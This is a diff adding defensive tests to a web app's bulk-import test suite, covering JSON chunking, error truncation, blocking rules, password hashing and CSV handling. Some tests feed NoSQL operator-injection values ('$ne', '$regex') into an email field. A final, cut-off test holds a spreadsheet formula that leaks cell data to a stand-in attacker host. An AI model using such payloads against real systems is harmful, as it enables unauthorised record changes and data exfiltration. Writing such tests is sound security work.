@@ -212,6 +212,82 @@ describe('bulk imports', function () {
     assert.equal((await count(`/appointments?ManagerId=${ids.maria}&AppointedDate=2034-06-02T09:00:00.000Z`)), 0, 'the refused row wrote nothing')
   })
 
+  it('a key is a value, never a query: a JSON key {"$ne": null} is a refused row and changes nobody (it patched the first user)', async () => {
+    const admin = await server.app.service('users').get(ids.admin)
+    const rows = [{ email: { $ne: null }, Name: 'Injected Name' }, { email: { $regex: '^sam' }, Name: 'Regex Name' }, { email: ['a@example.com'], Name: 'Array' }]
+    const record = await runImport('admin', 'users', JSON.stringify(rows), {}, 'application/json')
+    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 3, 0, 3], JSON.stringify(record.ErrorDetails))
+    assert.ok(record.ErrorDetails.every((e: any) => /email must be a value/.test(e.Error)), JSON.stringify(record.ErrorDetails))
+    assert.equal((await server.app.service('users').get(ids.admin)).Name, admin.Name)
+  })
+
+  it('a JSON file decodes characters whose bytes fall across two chunks of the stored file', async () => {
+    const sam = (await server.app.service('users').find({ paginate: false, query: { email: 'sam@example.com' } }))[0] as any
+    const name = 'é'.repeat(40)
+    // The refused first row pads the file so that the 65,536th byte (the end of the first 64 KiB chunk read from disk)
+    // is the first byte of an `é` of the second row's Name.
+    const head = (pad: string) => `[${JSON.stringify({ email: 'pad@example.com', pad })},{"email":"sam@example.com","Name":"`
+    const pad = 'x'.repeat(65_536 - 41 - Buffer.byteLength(head('')))
+    const text = `${head(pad)}${name}"}]`
+    assert.equal(Buffer.byteLength(head(pad)), 65_536 - 41)
+    try {
+      const record = await runImport('admin', 'users', text, {}, 'application/json')
+      assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 1], JSON.stringify(record.ErrorDetails))
+      assert.equal((await server.app.service('users').get(sam._id)).Name, name)
+    } finally {
+      await server.app.service('users').patch(sam._id, { Name: sam.Name })
+    }
+  })
+
+  it("every refused row's message is cut at 1000 characters, the parser's and ours too (a long one failed the whole report, counts 0)", async () => {
+    const at = (day: number) => `${ids.maria},2034-07-0${day}T09:00:00.000Z`
+    const csv = ['ManagerId,AppointedDate', at(1), `${at(2)},${'x'.repeat(1500)}`, at(3)].join('\n')
+    const record = await runImport('maria', 'appointments', csv)
+    assert.deepEqual([record.Status, record.TotalRecords, record.SuccessRecords, record.ErrorRecords], ['Done', 3, 2, 1], JSON.stringify(record.ErrorDetails).slice(0, 300))
+    assert.equal(record.ErrorDetails[0].Row, 3)
+    assert.ok(record.ErrorDetails[0].Error.length <= 1000)
+  })
+
+  it('the blocked-manager rule holds for each row of a batch: a row with a developer who blocked the manager is refused (409), the others imported', async () => {
+    const sam = (await server.app.service('users').find({ paginate: false, query: { email: 'sam@example.com' } }))[0] as any
+    assert.ok((sam.BlockedUser ?? []).includes(ids.omar), 'the demo: Sam has blocked Omar')
+    const attendees = (developer: string) => `"[{""DeveloperId"":""${developer}""}]"`
+    const csv = ['ManagerId,AppointedDate,Attendees', `${ids.omar},2034-08-01T09:00:00.000Z,${attendees(sam._id)}`, `${ids.omar},2034-08-02T09:00:00.000Z,${attendees(ids.dev)}`, `${ids.omar},2034-08-03T09:00:00.000Z,`].join('\n')
+    const record = await runImport('omar', 'appointments', csv)
+    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [2, 1], JSON.stringify(record.ErrorDetails))
+    assert.equal(record.ErrorDetails[0].Row, 2)
+    assert.match(record.ErrorDetails[0].Error, /has blocked this manager/)
+    const withSam = (await server.app.service('appointments').find({ paginate: false, query: { ManagerId: ids.omar, 'Attendees.DeveloperId': sam._id } })) as any[]
+    assert.equal(withSam.length, 0)
+  })
+
+  it('a batch of new users is hashed one record at a time, the event loop turning between them (a hundred at once held the server ~10 s)', async () => {
+    let turns = 0
+    let probing = true
+    const probe = () => {
+      turns++
+      if (probing) setImmediate(probe)
+    }
+    setImmediate(probe)
+    const made = (await server.app.service('users').create(
+      Array.from({ length: 6 }, (_, i) => ({ Name: `Hashed ${i}`, email: `hashed${i}@example.com`, password: 'long enough 1', RoleId: ids.developerRole }))
+    )) as any[]
+    probing = false
+    try {
+      // bcryptjs yields with setImmediate between chunks: one record at a time, the probe runs between every hash.
+      assert.ok(turns >= 6, `the event loop turned ${turns} times during 6 hashes`)
+    } finally {
+      for (const user of made) await server.app.service('users').remove(user._id)
+    }
+  })
+
+  it("a secret cell is taken as written: an apostrophe before = in a password stays (no export writes one to undo)", async () => {
+    const csv = ['Name,email,password,RoleId', `Quote Pass,quotepass@example.com,'=pw123456 long,${ids.developerRole}`].join('\n')
+    const record = await runImport('admin', 'users', csv)
+    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 0], JSON.stringify(record.ErrorDetails))
+    assert.ok((await login(server.url, 'quotepass@example.com', "'=pw123456 long")).accessToken)
+  })
+
   it('a formula-like Name is exported after an apostrophe (a spreadsheet shows it as text) and imported back as it was', async () => {
     const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     await server.app.service('users').patch(ids.omar, { Name: name })
